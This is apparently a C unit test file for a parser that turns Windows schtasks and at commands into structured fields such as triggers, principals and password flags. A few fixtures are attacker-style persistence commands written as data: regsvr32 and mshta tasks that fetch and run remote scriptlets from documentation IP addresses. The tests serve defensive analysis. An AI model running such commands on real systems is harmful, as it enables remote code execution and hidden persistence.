#include "unit/script-rows.h"

/* ---- schtasks ---- */

static const struct script_row schtasks[] = {
	/* Verbs, in all spellings */
	{ "schtasks", "list" },
	{ "schtasks /query", "list" },
	{ "schtasks /query /fo LIST /v", "list" },
	{ "schtasks /query /fo:csv /nh", "list" },
	{ "schtasks /query /tn x /xml", "query \\x" },
	{ "schtasks /showsid /tn x", "query \\x" },
	{ "schtasks -Query -TN \\Microsoft\\x -v", "query \\Microsoft\\x" },
	{ "schtasks /QUERY /S fs02", "list @fs02" },
	{ "schtasks /run /tn x", "run \\x" },
	{ "schtasks /tn x /run", "run \\x" },
	{ "schtasks /Run /I /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup", "run \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup" },
	{ "schtasks /run /tn Quarterly /S srv7.corp.example", "run \\Quarterly @srv7.corp.example" },
	{ "schtasks /F /delete /tn Quarterly /S 192.0.2.10", "delete \\Quarterly @192.0.2.10" },
	{ "schtasks /delete /f /tn \"\\Microsoft\\Windows\\Contoso\\Sync\"", "delete \\Microsoft\\Windows\\Contoso\\Sync" },
	{ "schtasks /delete /tn * /f", "delete \\*" },
	{ "schtasks /end /tn \"a b\"", "stop \\a b" },
	{ "schtasks /change /tn x /enable", "enable \\x" },
	{ "schtasks /change /disable /tn x", "disable \\x" },
	{ "schtasks /change /tn x /tr calc", "update \\x = calc" },
	{ "schtasks /change /tn x /ru u /rp p /disable", "update \\x" },
	{ "schtasks /change /tn:x /enable", "enable \\x" },
	{ "schtasks /run /s \\\\fs02 /tn x", "run \\x @fs02" },
	{ "schtasks /run /s localhost /tn x", "run \\x" },
	{ "schtasks /run /s %COMPUTERNAME% /tn x", "run \\x" },
	{ "schtasks /run /s fs02 /u CORP\\a /p b /tn x", "run \\x @fs02" },
	{ "schtasks /run /u a /p /tn x", "run \\x" },
	{ "schtasks /run", "run" },
	{ "schtasks /run /tn", "run" },
	{ "schtasks /run /tn /s fs02", "run @fs02" },
	{ "schtasks /run /tn x /tn y", "run \\x" },
	{ "schtasks /run /delete /tn x", "run \\x" },
	{ "schtasks /run /tn x /bogus y", "run \\x" },
	/* The action */
	{ "schtasks /create /sc minute /mo 1 /tn \"Every minute\" /tr d:\\jobs\\minute.exe", "create \\Every minute = d:\\jobs\\minute.exe" },
	{ "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN Refresh_ /TR \"mshta.exe https://intranet.example/page.hta\" /F", "create \\Refresh_ = mshta.exe https://intranet.example/page.hta" },
	{ "schtasks /create /tn x /tr \"\\\"C:\\Program Files\\a.exe\\\" -b \\\"c d\\\"\"", "create \\x = \"C:\\Program Files\\a.exe\" -b \"c d\"" },
	{ "schtasks /create /tn x /tr \"'C:\\Program Files\\a.exe' -b 'c d'\"", "create \\x = \"C:\\Program Files\\a.exe\" -b 'c d'" },
	{ "schtasks /create /tn x /tr \"powershell -c 'a b'\"", "create \\x = powershell -c 'a b'" },
	{ "schtasks /create /tn x /tr C:\\Program Files\\a.exe", "create \\x = C:\\Program Files\\a.exe" },
	{ "schtasks /create /tn x /tr \"\"", "create \\x" },
	{ "schtasks /create /tn x /tr \" \"", "create \\x" },
	{ "schtasks /create /tn x /tr", "create \\x" },
	{ "schtasks /create /tn x /tr \"/c y\"", "create \\x = /c y" },
	{ "schtasks /create /tn x /tr \"\\\"C:\\a b", "create \\x = \"C:\\a b" },
	{ "schtasks /create /tn AdobeGCInvoker /tr regsvr32.exe /s /n /u /i:http://198.51.100.3/f.sct scrobj.dll /sc hourly", "create \\AdobeGCInvoker = regsvr32.exe /s /n /u /i:http://198.51.100.3/f.sct scrobj.dll" },
	{ "schtasks.exe /create /s fs02 /tn W /tr mshta.exe http://203.0.113.80/w.hta /sc once /st 23:59", "create \\W = mshta.exe http://203.0.113.80/w.hta @fs02" },
	{ "schtasks /create /tr cmd /c calc /tn x /sc onstart", "create \\x = cmd /c calc" },
	{ "schtasks /create /tn x /tr calc /s host", "create \\x = calc @host" },
	{ "schtasks.exe /create /s fs02 /tn WinSAT2 /tr \"mshta.exe http://203.0.113.80/w.hta\" /sc once /st 23:59", "create \\WinSAT2 = mshta.exe http://203.0.113.80/w.hta @fs02" },
	{ "schtasks /create /tn x /xml C:\\x.xml", "create \\x" },
	{ "schtasks /create /tn %name% /tr %run%", "create \\%name% = %run%" },
	/* No tasks */
	{ "schtasks /?", "" },
	{ "schtasks /create /?", "" },
	{ "schtasks -?", "" },
	{ "schtasks create /tn x", "" },
	{ "schtasks /tn x", "" },
	{ "schtasks x", "" },
	{ "schtasks /cr /tn x", "" },
	{ "schtasks /creates /tn x", "" },
	{ "schtasks /", "" },
	{ "schtasks /s fs02", "" },
};

/* ---- at ---- */

static const struct script_row at[] = {
	{ "at", "list" },
	{ "at \\\\fs02", "list @fs02" },
	{ "at 13:20 /interactive cmd", "create = cmd" },
	{ "C:\\Windows\\System32\\at.exe 06:45 /interactive /every:m,t,w,th,f,s,su report.exe", "create = report.exe" },
	{ "at \\\\fs02 9:00PM /next:5 \"cmd /c x > y\"", "create = cmd /c x > y @fs02" },
	{ "at \\\\fs02 9p cmd /c x", "create = cmd /c x @fs02" },
	{ "AT 1:30AM \"C:\\a b.exe\" c", "create = C:\\a b.exe c" },
	{ "at 5", "query \\At5" },
	{ "at 5 /delete", "delete \\At5" },
	{ "at \\\\fs02 05 /delete", "delete \\At5 @fs02" },
	{ "at /delete /yes", "delete" },
	{ "at \\\\fs02 /DELETE", "delete @fs02" },
	{ "at 99999999999 /delete", "delete" },
	{ "at 13:20", "" },
	{ "at 13:20 /interactive", "" },
	{ "at noon cmd", "" },
	{ "at 1320 cmd", "" },
	{ "at 13:2 cmd", "" },
	{ "at 13:20x cmd", "" },
	{ "at /?", "" },
	{ "at 5 /x", "" },
	{ "at.txt 13:20 cmd", "" },
	{ "cat 13:20 cmd", "" },
};

static void
rows_are_read(void **state)
{
	(void)state;
	for (size_t i = 0; i < nitems(schtasks); i++)
		assert_script_row(LANGUAGE_NONE, &schtasks[i]);
	for (size_t i = 0; i < nitems(at); i++)
		assert_script_row(LANGUAGE_NONE, &at[i]);
}

/* ---- Fields ---- */

static struct script_run *
one(const char *text)
{
	struct script_run *a = run_script(LANGUAGE_NONE, text);

	if (a->facts.n != 1)
		print_error("%s\n", text);
	assert_int_equal(a->facts.n, 1);
	return a;
}

static void
assert_one(const char *text, enum field f, const char *want)
{
	struct script_run *a = one(text);

	assert_field(a->facts.o[0], f, want);
	run_end(a);
}

static void
a_whole_task(void **state)
{
	struct script_run *a = one("schtasks /create /s fs02 /u CORP\\adm /p S3cret /tn \"\\a\\b c\" "
	    "/tr \"\\\"C:\\Program Files\\x.exe\\\" -y \\\"z\\\"\" /sc minute /mo 015 /sd 2026/11/24 "
	    "/st 9:05 /du 0024:30 /ru \"NT AUTHORITY\\SYSTEM\" /rl HIGHEST /z /f");
	const struct fact *o = a->facts.o[0];

	(void)state;
	assert_field(o, F_ACTION, "create");
	assert_field(o, F_NAME, "\\a\\b c");
	assert_field(o, F_TARGET, "fs02");
	assert_field(o, F_ACT_TYPE, "exec");
	assert_field(o, F_ACT_COMMAND, "\"C:\\Program Files\\x.exe\"");
	assert_field(o, F_ACT_ARGUMENTS, "-y \"z\"");
	assert_field(o, F_ACT_COMMAND_LINE, "\"C:\\Program Files\\x.exe\" -y \"z\"");
	assert_field(o, F_USER_ID, "NT AUTHORITY\\SYSTEM");
	assert_field(o, F_RUN_LEVEL, "HighestAvailable");
	assert_field(o, F_PRINCIPAL_LOGON, NULL);
	assert_field(o, F_TRG_TYPE, "time");
	assert_field(o, F_TRG_REP_INTERVAL, "PT15M");
	assert_field(o, F_TRG_REP_DURATION, "PT24H30M");
	assert_field(o, F_TRG_START, "2026-11-24T09:05:00");
	assert_field(o, F_SET_DELETE_AFTER, "PT0S");
	assert_int_equal(field_int(o, F_HAS_PASSWORD), true);
	for (const struct fact_item *i = NULL; (i = fact_each(o, i)) != NULL;)
		assert_null(i->str != NULL ? strstr(i->str, "S3cret") : NULL);
	run_end(a);
}

static void
schedules_become_triggers(void **state)
{
	static const struct { const char *words, *type, *interval; } rows[] = {
		{ "/sc MINUTE", "time", "PT1M" }, { "/sc minute /mo 20", "time", "PT20M" },
		{ "/sc hourly", "time", "PT1H" }, { "/sc HOURLY /mo 12", "time", "PT12H" },
		{ "/sc once", "time", NULL }, { "/sc once /ri 5", "time", "PT5M" },
		{ "/sc daily /mo 2", "calendar", NULL }, { "/sc daily /ri 60", "calendar", "PT60M" },
		{ "/sc weekly /d MON", "calendar", NULL }, { "/sc monthly", "calendar", NULL },
		{ "/sc onstart", "boot", NULL }, { "/sc OnLogon", "logon", NULL },
		{ "/sc onidle /i 10", "idle", NULL }, { "/sc onevent", "event", NULL },
		{ "/sc minute /mo x", "time", NULL }, { "/sc never", NULL, NULL },
		{ "/sc", NULL, NULL }, { "", NULL, NULL },
	};
	char text[128];
	struct script_run *a;

	(void)state;
	for (size_t i = 0; i < nitems(rows); i++) {
		strlcpy(text, "schtasks /create /tn x /tr y ", sizeof(text));
		strlcat(text, rows[i].words, sizeof(text));
		a = one(text);
		assert_field(a->facts.o[0], F_TRG_TYPE, rows[i].type);
		assert_field(a->facts.o[0], F_TRG_REP_INTERVAL, rows[i].interval);
		run_end(a);
	}
	assert_one("schtasks /create /sc onidle /i 10", F_SET_IDLE_DURATION, "PT10M");
	assert_one("schtasks /create /sc onstart /delay 0005:30", F_TRG_DELAY, "PT5M30S");
	assert_one("schtasks /create /sc onstart /delay 0000:30", F_TRG_DELAY, "PT30S");
	assert_one("schtasks /create /sc onstart /delay 0000:00", F_TRG_DELAY, "PT0M");
	assert_one("schtasks /create /sc onstart /delay 5", F_TRG_DELAY, NULL);
	assert_one("schtasks /create /sc onstart /delay 123456789:00", F_TRG_DELAY, NULL);
	assert_one("schtasks /create /sc onevent /ec System /mo *[System/EventID=101]",
	    F_TRG_SUBSCRIPTION, "<QueryList><Query Id=\"0\" Path=\"System\"><Select Path=\"System\">"
	    "*[System/EventID=101]</Select></Query></QueryList>");
	assert_one("schtasks /create /sc onevent /mo *", F_TRG_SUBSCRIPTION, NULL);
}

/* A date is kept only where it can be read in one way. */
static void
starts_are_sure(void **state)
{
	static const struct { const char *words, *start; } rows[] = {
		{ "/sd 2026/11/24 /st 23:59", "2026-11-24T23:59:00" },
		{ "/sd 2026-11-24 /st 23:59:30", "2026-11-24T23:59:30" },
		{ "/sd 11/24/2026 /st 07:00", "2026-11-24T07:00:00" },
		{ "/sd 24/11/2026 /st 07:00", "2026-11-24T07:00:00" },
		{ "/sd 11/11/2026 /st 07:00", "2026-11-11T07:00:00" },
		{ "/sd 24.11.2026 /st 07:00", "2026-11-24T07:00:00" },
		{ "/sd 05/06/2026 /st 07:00", NULL }, { "/sd 25/26/2026 /st 07:00", NULL },
		{ "/sd 2026/13/01 /st 07:00", NULL }, { "/sd 2026/11/24", NULL },
		{ "/sd 2026/00/24 /st 07:00", NULL }, { "/sd 2026/11/32 /st 07:00", NULL },
		{ "/st 07:00", NULL }, { "/sd 2026/11/24 /st 7", NULL },
		{ "/sd 2026/11/24 /st 07:00x", NULL }, { "/sd 2026/11/2x /st 07:00", NULL },
		{ "/sd 11/24/26 /st 07:00", NULL }, { "/sd %date% /st %time%", NULL },
	};
	char text[128];

	(void)state;
	for (size_t i = 0; i < nitems(rows); i++) {
		strlcpy(text, "schtasks /create /tn x /tr y /sc once ", sizeof(text));
		strlcat(text, rows[i].words, sizeof(text));
		assert_one(text, F_TRG_START, rows[i].start);
	}
}

static void
principals_are_told(void **state)
{
	(void)state;
	assert_one("schtasks /create /ru u /rp p", F_PRINCIPAL_LOGON, "Password");
	assert_one("schtasks /create /ru u /np", F_PRINCIPAL_LOGON, "S4U");
	assert_one("schtasks /create /ru u /it", F_PRINCIPAL_LOGON, "InteractiveToken");
	assert_one("schtasks /create /ru u /it /rp p", F_PRINCIPAL_LOGON, "InteractiveTokenOrPassword");
	assert_one("schtasks /create /ru SYSTEM", F_PRINCIPAL_LOGON, NULL);
	assert_one("schtasks /create /ru \"\" /tn x", F_USER_ID, "SYSTEM");
	assert_one("schtasks /create /tn x", F_USER_ID, NULL);
	assert_one("schtasks /create /rl limited", F_RUN_LEVEL, "LeastPrivilege");
	assert_one("schtasks /create /rl x", F_RUN_LEVEL, NULL);
	/* Other verbs have no definition. */
	assert_one("schtasks /run /tn x /ru u /tr y", F_USER_ID, NULL);
	assert_one("schtasks /run /tn x /ru u /tr y", F_ACT_COMMAND, NULL);
	assert_one("schtasks /change /tn x /sc daily /ru u", F_TRG_TYPE, NULL);
}

static void
passwords_are_flagged(void **state)
{
	static const struct { const char *text; bool has; } rows[] = {
		{ "schtasks /create /ru u /rp p", true }, { "schtasks /run /s h /u a /p b", true },
		{ "schtasks /create /rp:p", true }, { "schtasks /change /tn x /rp p", true },
		{ "schtasks /create /ru u /rp", false }, { "schtasks /create /ru u /rp *", false },
		{ "schtasks /create /ru u /rp /f", false }, { "schtasks /create /ru u /rp \"\"", false },
		{ "schtasks /create /tn rp", false },
	};
	struct script_run *a;
	int64_t n;

	(void)state;
	for (size_t i = 0; i < nitems(rows); i++) {
		a = one(rows[i].text);
		assert_int_equal(fact_get_int(a->facts.o[0], F_HAS_PASSWORD, &n), rows[i].has);
		run_end(a);
	}
}

static void
enabling_with_a_change_is_an_update(void **state)
{
	struct script_run *a = one("schtasks /change /tn x /tr y /disable");

	(void)state;
	assert_field(a->facts.o[0], F_ACTION, "update");
	assert_int_equal(field_int(a->facts.o[0], F_SET_ENABLED), false);
	run_end(a);
}

static void
jobs_of_at(void **state)
{
	struct script_run *a = one("at 17 /delete");
	int64_t n;

	(void)state;
	assert_int_equal(field_int(a->facts.o[0], F_JOB_ID), 17);
	run_end(a);
	a = one("at 99999999999 /delete");
	assert_false(fact_get_int(a->facts.o[0], F_JOB_ID, &n));
	run_end(a);
	assert_one("at 9:00 x", F_TRG_TYPE, "time");
	assert_one("at 9:00 /next:5 x", F_TRG_TYPE, "time");
	assert_one("at 9:00 /every:5 x", F_TRG_TYPE, "calendar");
	assert_one("at 9:00 x", F_ACT_TYPE, "exec");
	assert_one("at 9:00 x y", F_ACT_COMMAND, "x y");
}

static void
every_truncation_is_safe(void **state)
{
	static const struct { const struct script_row *row; size_t n; } tables[] = {
		{ schtasks, nitems(schtasks) }, { at, nitems(at) }
	};
	struct script_run *a;

	(void)state;
	for (size_t t = 0; t < nitems(tables); t++)
		for (size_t i = 0; i < tables[t].n; i++)
			for (size_t n = 0; n < strlen(tables[t].row[i].in); n++) {
				a = run_script(LANGUAGE_NONE, "");
				run_bytes(a, LANGUAGE_NONE, tables[t].row[i].in, n);
				run_end(a);
			}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rows_are_read),
		cmocka_unit_test(a_whole_task),
		cmocka_unit_test(schedules_become_triggers),
		cmocka_unit_test(starts_are_sure),
		cmocka_unit_test(principals_are_told),
		cmocka_unit_test(passwords_are_flagged),
		cmocka_unit_test(enabling_with_a_change_is_an_update),
		cmocka_unit_test(jobs_of_at),
		cmocka_unit_test(every_truncation_is_safe),
	};

	return cmocka_run_group_tests_name("schtasks", tests, NULL, NULL);
}
